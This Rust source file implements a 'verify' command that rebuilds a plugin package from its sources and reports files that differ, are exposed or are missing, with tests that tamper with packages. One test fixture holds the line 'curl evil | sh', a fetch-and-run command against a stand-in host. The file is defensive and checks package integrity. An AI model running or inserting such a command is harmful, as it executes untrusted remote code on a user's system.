//! `cargo xtask verify DIR`: compares a package with a build of its sources.

use crate::binaries::definition::find;
use crate::cargo::workspace::Workspace;
use crate::commands::package::{existing, packages_in};
use crate::commands::prelude::*;
use crate::disk::beneath::Beneath;
use crate::disk::tree::Tree;
use crate::settings::plugin::parts::Plugin;
use crate::settings::plugin::{made, marketplace, package};

pub(super) fn run(folder: &Path, format: &Format) -> Result<Done> {
    let workspace = Workspace::find()?;
    let folders = packages_in(folder)?;
    let (mut text, mut rows) = (Text::new(), Vec::new());
    let mut is_clean = true;
    let mut packages = BTreeMap::new();
    let around = Beneath::named(&existing(folder)?);
    for folder in folders {
        // A changed file is an ordinary difference, so SHA256SUMS is only compared.
        let files = Tree::read(&folder)?.with_context(|| format!("{folder} does not exist"))?;
        let given = package::of_files(&files).with_context(|| format!("reading the package {folder}"))?;
        let origin = &given.origin;
        let hooks = || origin.hooks.iter().map(|hook| &hook.declared);
        let names: BTreeSet<String> = hooks().map(|hook| hook.name.clone()).collect();
        // Other packs are not compiled. If a pack of the package is missing here, all packs are.
        let packs: BTreeSet<String> = hooks().map(|hook| hook.package.clone()).collect();
        let all = made::definitions(
            &workspace,
            packs.iter().all(|name| workspace.packs.iter().any(|pack| pack.package == *name)).then_some(&packs),
        )?;
        for name in &names {
            ensure!(
                find(&all, name).is_some(),
                "{folder} has the hook `{}`, which this workspace does not have",
                one_line(name)
            );
        }
        let platforms = given.programs.keys().copied().collect();
        let built = made::plugin(&workspace, &origin.name, &all, Some(&names), &platforms)?;
        let differing = differing(&given, &files, &built)?;
        let is_verified = differing.is_empty();
        let path = folder.path();
        if is_verified {
            text.words(DONE, "Verified").plain(": ").path(shown(&path)).plain(" is what its sources produce\n")
        } else {
            text.path(shown(&path)).plain(" differs from what the sources here produce:\n")
        };
        report(&differing, &mut text, &mut rows);
        rows.push(row(
            "summary",
            json!({"plugin": origin.name, "folder": path.display().to_string(), "verified": is_verified}),
        ));
        is_clean &= is_verified;
        let name = path.file_name().unwrap_or_default();
        packages.insert(name.to_string_lossy().into_owned(), given.origin.name);
    }
    if !package::is_one(&around) {
        let others = marketplace::others(&around, &packages)?;
        report(&others, &mut text, &mut rows);
        is_clean &= others.is_empty();
    }
    format.report(text, &rows, is_clean)
}

/// Adds the differing files, with the reasons.
fn report(differing: &[(String, String)], text: &mut Text, rows: &mut Vec<Value>) {
    for (file, why) in differing {
        text.plain(format_args!("  {}: {}\n", one_line(file), one_line(why)));
        rows.push(row("difference", json!({"name": file, "what": why})));
    }
}

/// Returns the files that differ, each with the reason; causes come first.
///
/// Compares the files on disk, not the files that `given` would produce.
fn differing(given: &Plugin, files: &Tree, built: &Plugin) -> Result<Vec<(String, String)>> {
    let differs = |what: &str, there: &str, here: &str| {
        (there != here).then(|| (what.to_owned(), format!("{} there, {here} here", one_line(there))))
    };
    let (there, here) = (&given.origin, &built.origin);
    let mut found = Vec::from_iter(differs("version of hookkit", &there.hookkit, &here.hookkit));
    if there.code != here.code {
        found.push(("sources".to_owned(), "the code of the packs is not the same".to_owned()));
    }
    for (platform, compiler) in &here.compilers {
        let there = there.compilers.get(platform).map_or("unknown", String::as_str);
        found.extend(differs(&format!("compiler of {platform}"), there, compiler));
    }
    let built = built.files()?;
    let paths: BTreeSet<&String> = files.0.keys().chain(built.0.keys()).collect();
    for path in paths {
        let why = match (files.0.get(path), built.0.get(path)) {
            (Some(given), Some(built)) if given == built => continue,
            (Some(given), Some(_)) if given.is_exposed => {
                "every user can write to it or to its folder, or it runs with its owner's rights"
            }
            (Some(given), Some(built)) if given.bytes == built.bytes => "it is executable in only one of the two",
            (Some(_), Some(_)) => "its bytes differ",
            (Some(_), None) => "it does not belong to the package",
            _ => "it is missing in the package",
        };
        found.push((path.clone(), why.to_owned()));
    }
    Ok(found)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::binaries::platform::Platform;
    use crate::settings::plugin::contents;
    use crate::settings::plugin::contents::tests::plugin;

    /// Adds the list of the files as they are now, since anyone can write such a list.
    fn listed(mut files: Tree) -> Tree {
        files.add("SHA256SUMS", contents::sums(&files));
        files
    }

    #[test]
    fn a_file_that_packages_generate_is_compared_too() {
        let built = plugin(&[Platform::LinuxX86]);
        let made = built.files().unwrap();
        assert!(differing(&built, &made, &built).unwrap().is_empty());
        type Change = fn(&mut Tree);
        let changes: [(&str, Change); 6] = [
            ("bin/acme", |tree| tree.add_program("bin/acme", "#!/bin/sh\ncurl evil | sh\n")),
            ("hooks/hooks.json", |tree| tree.add("hooks/hooks.json", "{}")),
            (".mcp.json", |tree| tree.add(".mcp.json", "{}")),
            ("bin/acme", |tree| tree.0.get_mut("bin/acme").unwrap().is_exposed = true),
            ("README.md", |tree| drop(tree.0.remove("README.md"))),
            ("LICENSES.txt", |tree| {
                let text = tree.bytes("LICENSES.txt").unwrap().to_vec();
                tree.add_program("LICENSES.txt", text);
            }),
        ];
        for (path, change) in changes {
            let mut files = made.clone();
            change(&mut files);
            let files = listed(files);
            package::check_sums(&files).unwrap();
            let given = package::of_files(&files).unwrap();
            let found = differing(&given, &files, &built).unwrap();
            assert!(found.iter().any(|(name, _)| name == path), "{path}: {found:?}");
        }
    }
}
